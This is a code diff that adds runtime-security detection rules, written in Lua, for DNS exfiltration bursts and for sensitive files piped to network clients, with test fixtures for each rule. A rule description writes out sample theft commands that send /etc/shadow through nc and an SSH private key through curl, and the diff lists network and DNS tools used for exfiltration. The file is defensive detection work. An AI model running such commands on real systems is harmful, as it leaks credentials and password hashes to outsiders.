@@ -161,3 +161,113 @@ rule {
                 argv = { "ping", "-c", "3", "10.0.0.9" } }, expect = false },
   },
 }
+
+-- The registered part of a name, roughly: its last two labels
+-- ("a.b.evil.example" -> "evil.example").
+local function parent_domain(qname)
+  return qname and qname:match("([^.]+%.[^.]+)%.?$")
+end
+
+-- Resolver tools a shell loop runs once per query.
+local DNS_TOOLS = tapio.set { "dig", "host", "nslookup", "drill", "kdig", "delv", "resolvectl",
+                              "getent", "ping", "curl", "wget" }
+
+-- A first label that looks like data rather than a host name: 8 or more hex
+-- digits, or 16 or more letters and digits with a digit among them.
+local function data_label(qname)
+  local l = qname:match("^([^.]+)%.")
+  if l == nil or l:find("%d") == nil then return false end
+  return (#l >= 8 and l:find("^%x+$") ~= nil) or (#l >= 16 and l:find("^[%w_-]+$") ~= nil)
+end
+
+local function dns_queries(n, name_of, extra)
+  local ev = {}
+  for i = 1, n do
+    ev[i] = { type = "network.dns", comm = "x", qtype = 1, qname = name_of(i) }
+    for k, v in pairs(extra and extra(i) or {}) do ev[i][k] = v end
+  end
+  return ev
+end
+
+rule {
+  name = "dns_exfiltration_burst",
+  desc = "Thirty or more different names under one domain asked within a minute by one "
+      .. "process, or by the dig/host/nslookup runs of one loop when the names carry data "
+      .. "(hex, base32 labels): data split into DNS queries (dnscat, iodine, DNS beacons), "
+      .. "even with short labels",
+  events = { "network.dns" },
+  severity = "warning",
+  importance = 0.85,
+  tags = { "mitre:T1048.003", "mitre:T1071.004" },
+  state = { names = tapio.distinct { window = "60s", max_values = 256 } },
+  when = function(e, s)
+    local domain = parent_domain(e.qname)
+    if domain == nil then return false end
+    local n, new = s.names:add(e.pid .. ">" .. domain, e.qname)
+    local hit = new and n == 30
+    -- by its program: dig's queries come from a thread named isc-net-0000
+    if DNS_TOOLS[basename(e.exe or "")] and data_label(e.qname) then
+      local m, lnew = s.names:add(e.ppid .. ">>" .. domain, e.qname)
+      hit = hit or (lnew and m == 30)
+    end
+    return hit
+  end,
+  output = "30 different names under ${qname} asked by ${comm} (pid ${pid}, exe ${exe}, uid "
+        .. "${uid}, parent ${parent.comm} pid ${ppid}) within a minute, to ${daddr}:${dport}; "
+        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod}",
+  tests = {
+    { events = dns_queries(30, function(i) return "c" .. i .. ".t.exfil.example" end),
+      expect = 30 },
+    { events = dns_queries(30, function(i) return "www.site" .. i .. ".example" .. i end),
+      expect = false },
+    -- a dig per chunk from one loop
+    { events = dns_queries(30, function(i) return string.format("%08x.%d.exfil.example", i * 7919, i) end,
+                           function(i) return { comm = "isc-net-0000", exe = "/usr/bin/dig", pid = 800 + i,
+                                                ppid = 80 } end),
+      expect = 30 },
+    -- an admin's loop over the web servers
+    { events = dns_queries(30, function(i) return "web" .. i .. ".corp.example" end,
+                           function(i) return { comm = "dig", exe = "/usr/bin/dig", pid = 800 + i,
+                                                ppid = 80 } end),
+      expect = false },
+  },
+}
+
+local NET_SENDERS = { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "curl",
+                      "telnet", "openssl", "ssh", "scp", "ftp", "tftp" }
+
+rule {
+  name = "sensitive_file_sent_over_network",
+  desc = "A file worth stealing was opened by a shell that then became a network client: "
+      .. "`nc host port < /etc/shadow`, `curl --data-binary @- ... < ~/.ssh/id_rsa`",
+  events = { "file.open", "process.exec" },
+  severity = "error",
+  importance = 0.9,
+  tags = { "mitre:T1048", "mitre:T1041", "mitre:T1552.001" },
+  -- a shell's own opens (its < redirects); the network clients it becomes
+  match = { ["file.open"] = { comm = SHELLS }, ["process.exec"] = { filename_base = NET_SENDERS } },
+  state = { opened = tapio.map { ttl = "5s" } },
+  when = function(e, s)
+    if e.type == "file.open" then
+      if e.ret >= 0 and (e.flags & 3) == 0 and sensitive(e.path) then -- read-only
+        s.opened:set(e, true)
+      end
+      return false
+    end
+    return e.ret == 0 and s.opened:get(e) == true
+  end,
+  output = "a sensitive file fed to ${filename}: ${argv} (pid ${pid}, uid ${uid}, parent "
+        .. "${parent.comm} pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
+  tests = {
+    { events = { { type = "file.open", comm = "bash", pid = 90, path = "/etc/shadow", flags = 0 },
+                 { type = "process.exec", comm = "nc", pid = 90, filename = "/bin/nc",
+                   argv = { "nc", "10.0.0.1", "9" } } }, expect = 2 },
+    -- cat opening it is not a redirect of the shell (match: comm)
+    { events = { { type = "file.open", comm = "cat", pid = 90, path = "/etc/shadow", flags = 0 },
+                 { type = "process.exec", comm = "nc", pid = 90, filename = "/bin/nc",
+                   argv = { "nc", "10.0.0.1", "9" } } }, expect = false },
+    { events = { { type = "file.open", comm = "bash", pid = 90, path = "/etc/hosts", flags = 0 },
+                 { type = "process.exec", comm = "nc", pid = 90, filename = "/bin/nc",
+                   argv = { "nc", "10.0.0.1", "9" } } }, expect = false },
+  },
+}
